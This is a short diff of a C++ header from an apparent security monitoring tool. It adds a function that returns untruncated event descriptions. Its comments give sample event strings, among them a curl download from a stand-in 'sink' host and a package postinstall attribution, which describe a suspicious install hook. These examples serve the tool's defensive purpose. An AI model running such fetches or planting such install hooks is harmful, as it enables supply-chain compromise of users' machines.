@@ -10,6 +10,8 @@ namespace cordon::bus {
 // What happened, in one line with nothing hidden in it, at most 300 bytes: "curl -o /tmp/x http://sink.example.test/x",
 // "203.0.113.5:8000 tcp (sink.example.test)", "deleted setup.js".
 std::string event_text(const model::Event& event);
+// The same uncut.
+std::string whole_event_text(const model::Event& event);
 
 // On whose behalf: "plain-crypto-js 4.2.1 postinstall", or empty.
 std::string package_text(const model::Event& event);
